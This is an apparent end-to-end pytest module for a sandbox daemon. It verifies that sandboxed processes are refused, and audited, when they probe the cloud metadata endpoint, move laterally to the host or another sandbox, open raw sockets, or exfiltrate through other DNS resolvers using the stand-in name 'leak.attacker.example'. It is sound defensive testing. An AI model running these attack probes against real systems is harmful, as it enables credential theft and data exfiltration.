"""Catalog section D on a networked node: the same attacks from a sandbox in
network mode `allowlist` and in mode `open`, each refused with its event.

Networking is opt-in per node (config network.enable), so this module runs
its own warrend with it on, on the e2e suite's networked node
(tests/e2e/netnode.py: a "host" namespace made by the test, whose uplink
leads to an "internet" namespace with a web server on 198.18.0.2:8080, the
metadata address 169.254.169.254 and another resolver address
198.18.0.53). Nothing on the machine's own network changes and nothing
leaves these namespaces.

The daemon's TCP listener is inside the namespace: the tests use its Unix
socket (the admin tenant) and filter events by sandbox.

Per mode, each attacker sandbox first proves its network works (the
allowed destination answers), so that a refusal is the policy's and not a
missing route.
"""
import time

import pytest

import warren
from warren._http import ConnectionConfig, SyncHTTP
from catalog import NET_COLUMNS
from netnode import HOST_ADDR as UPLINK_ADDR
from netnode import INET_ADDR as INET
from netnode import OTHER_RESOLVER, NetDaemon, netns  # noqa: F401 (fixture)
from redlib import current_key, parse, probe

METADATA = "169.254.169.254"
# slot 7 of netnode's names (bridge, range, table, veth prefix): the e2e
# suite's own daemons take 0 and up, never in the same process
SLOT = 7


class NetSession:
    def __init__(self, d):
        self.d = d
        self.conn = {"socket": str(d.sock)}
        self.http = SyncHTTP(ConnectionConfig.resolve(**self.conn))
        self.victim = None
        self.victim_addr = None

    def sandbox(self, mode, uid):
        net = {"mode": mode}
        if mode == "allowlist":
            net["allow"] = [{"cidr": f"{INET}/32", "ports": "8080", "protocol": "tcp"}]
        sb = warren.Sandbox.create(image="busybox", timeout=600, network=net, **self.conn)
        # the network is really there: the allowed destination answers
        r = sb.commands.run(["wr-probe", "connect-tcp", INET, "8080"], user=uid, timeout=30)
        assert parse(r.stdout.splitlines()[0])[1] == "ok", (mode, r.stdout, r.stderr)
        return sb

    def events(self, sid, layer):
        return (self.http.json("GET", "/events", params={"sandbox": sid, "layer": layer,
                                                          "limit": 1000}) or {})["events"]

    def expect(self, sid, layer, action, subject, wait=6.0):
        """The refusal's audit event: `action` on `subject` (a substring)."""
        deadline = time.time() + wait
        while True:
            evs = self.events(sid, layer)
            for e in evs:
                if action in str(e.get("action", "")).split(",") and \
                        subject in str(e.get("subject") or "") and e.get("denied"):
                    return e
            if time.time() > deadline:
                raise AssertionError(f"no {layer} {action} event for {subject!r}; saw "
                                     f"{[(e['action'], e['subject']) for e in evs][:20]}")
            time.sleep(0.3)


@pytest.fixture(scope="module")
def net(netns, rt, tmp_path_factory):
    d, s = None, None
    try:
        # isolation, not admission: no 429 on a loaded machine
        d = NetDaemon(rt.d.build, tmp_path_factory.mktemp("rtnet"), "rtnet", slot=SLOT,
                      extra={"admission": {"cpu_pressure_max": 1, "memory_pressure_max": 1}})
        d.start()
        s = NetSession(d)
        # the other sandbox: a listener on 7000 that the attackers try
        v = warren.Sandbox.create(image="busybox", timeout=1800, network={"mode": "open"},
                                  **s.conn)
        v.commands.run(["sh", "-c", "while true; do echo hi | nc -l -p 7000; done "
                        ">/dev/null 2>&1 &"])
        s.victim = v
        s.victim_addr = s.http.json("GET", f"/sandboxes/{v.sandbox_id}")["network"]["address"]
        time.sleep(0.2)
        r = v.commands.run(["wr-probe", "connect-tcp", s.victim_addr, "7000"])
        assert "connect-tcp ok" in r.stdout, r.stdout  # it listens
        yield s
    finally:
        problems = d.finish() if d is not None else []
        if d is not None:
            problems += d.gone_problems()
        assert not problems, "\n".join(problems) + "\n" + (d.log_text() if d else "")


@pytest.fixture
def attacker(net, rt_key):
    row, col = rt_key
    mode, uid = col.split("/")
    current_key[0] = rt_key
    sb = net.sandbox(mode, int(uid[3:]))
    try:
        yield sb, mode, int(uid[3:])
    finally:
        sb.kill()


def run_probe(sb, uid, *args):
    r = sb.commands.run(["wr-probe", *[str(a) for a in args]], user=uid, timeout=60)
    assert r.exit_code == 0 and r.stdout.strip(), (args, r.stdout, r.stderr)
    return [ln for ln in r.stdout.splitlines() if ln.strip()]


@probe("d-metadata", NET_COLUMNS)
def test_d_metadata_networked(net, attacker):
    sb, mode, uid = attacker
    for port in (80, 8080):
        _, outcome, _ = parse(run_probe(sb, uid, "connect-tcp", METADATA, port)[0])
        assert outcome == "EPERM", (mode, port, outcome)
    got = {ln.split()[1]: ln.split()[-1] for ln in
           run_probe(sb, uid, "egress", METADATA, "fd00:ec2::254", 80)}
    assert got["tcp4"] == got["tcp6"] == got["udp4-sendto"] == "EPERM", got
    e = net.expect(sb.sandbox_id, "bpf-net", "connect", f"{METADATA}:8080/tcp")
    assert e["what"]["ip"] == METADATA and e["what"]["port"] == 8080, e
    net.expect(sb.sandbox_id, "bpf-net", "sendto", f"{METADATA}:80/udp")


@probe("d-lateral", NET_COLUMNS)
def test_d_lateral_networked(net, attacker):
    """The host (uplink and bridge addresses), warrend's TCP port, and
    another sandbox: each refused, each with its event."""
    sb, mode, uid = attacker
    gw = net.d.gateway
    targets = [(UPLINK_ADDR, 9099), (gw, 9099), (gw, net.d.port), (UPLINK_ADDR, net.d.port),
               (net.victim_addr, 7000)]
    got = {f"{a}:{p}": parse(run_probe(sb, uid, "connect-tcp", a, p)[0])[1] for a, p in targets}
    assert all(v == "EPERM" for v in got.values()), (mode, got)
    for addr, port in targets:
        net.expect(sb.sandbox_id, "bpf-net", "connect", f"{addr}:{port}/tcp")
    # the victim is still fine and still listening (for its own)
    r = net.victim.commands.run(["wr-probe", "connect-tcp", net.victim_addr, "7000"])
    assert "connect-tcp ok" in r.stdout, r.stdout


@probe("d-egress-bypass", NET_COLUMNS)
def test_d_raw_sockets_networked(net, attacker):
    """Raw IP and packet sockets, ICMP to a refused address."""
    sb, mode, uid = attacker
    got = {ln.split()[1]: ln.split()[-1] for ln in
           run_probe(sb, uid, "egress", METADATA, "fd00:ec2::254", 443)}
    assert got["raw-icmp"] == got["raw-ip"] == got["packet"] == "EPERM", got
    # a ping socket (if ping_group_range lets the uid have one) is refused
    # by the filter's send hook
    assert got["icmp-dgram"] in ("EPERM", "EACCES"), got
    # Raw and packet sockets: the seccomp filter refuses socket() before
    # the kernel's CAP_NET_RAW check or the BPF sock_create hook (which
    # would have recorded a raw_socket refusal), and its refusal is the
    # event (this node's warrend runs in a network namespace: its audit
    # socket is made in the initial one, audit_netns.c)
    time.sleep(1)
    assert not [e for e in net.events(sb.sandbox_id, "bpf-net") if e["action"] == "socket"]
    net.expect(sb.sandbox_id, "seccomp", "socket", "", wait=2.0)


@probe("d-dns-exfil", NET_COLUMNS)
def test_d_dns_other_resolvers_networked(net, attacker):
    """DNS to any resolver but the sandbox's own gateway is refused, and the
    gateway's forwarder refuses names the policy does not allow."""
    sb, mode, uid = attacker
    lines = run_probe(sb, uid, "dns", "leak.attacker.example", OTHER_RESOLVER)
    got = {" ".join(ln.split()[1:3]): ln.split()[-1] for ln in lines
           if ln.startswith(("dns udp53", "dns tcp53", "dns doh443"))}
    resolver = [ln for ln in lines if ln.startswith("dns resolver ")]
    # the sandbox's own resolver is the gateway's forwarder, which answers
    assert resolver and f"dns resolver {net.d.gateway} udp53 answered" in resolver[0], lines
    if mode == "allowlist":
        # the forwarder refuses the name (NXDOMAIN) and records it
        e = net.expect(sb.sandbox_id, "dns", "resolve", "leak.attacker.example")
        assert e["what"]["reason"] == "name", e
    for k, v in got.items():
        if mode == "open" and k.startswith("doh443"):
            # DNS-over-HTTPS is HTTPS by port: mode open lets it out (no
            # server there: refused by the host, not the policy); names
            # stay on the forwarder only in mode allowlist
            assert v == "ECONNREFUSED", (mode, k, v, lines)
            continue
        assert v == "EPERM", (mode, k, v, lines)
    # DNS-over-TLS too
    _, outcome, _ = parse(run_probe(sb, uid, "connect-tcp", OTHER_RESOLVER, 853)[0])
    assert outcome == "EPERM", (mode, outcome)
    e = net.expect(sb.sandbox_id, "bpf-net", "sendto", f"{OTHER_RESOLVER}:53/udp")
    net.expect(sb.sandbox_id, "bpf-net", "connect", f"{OTHER_RESOLVER}:53/tcp")
    net.expect(sb.sandbox_id, "bpf-net", "connect", f"{OTHER_RESOLVER}:853/tcp")
    # the reason names the rule that refused: the resolver rule in mode
    # open, the allowlist's in mode allowlist
    assert e["what"]["reason"] == ("dns_resolver" if mode == "open" else "policy"), e
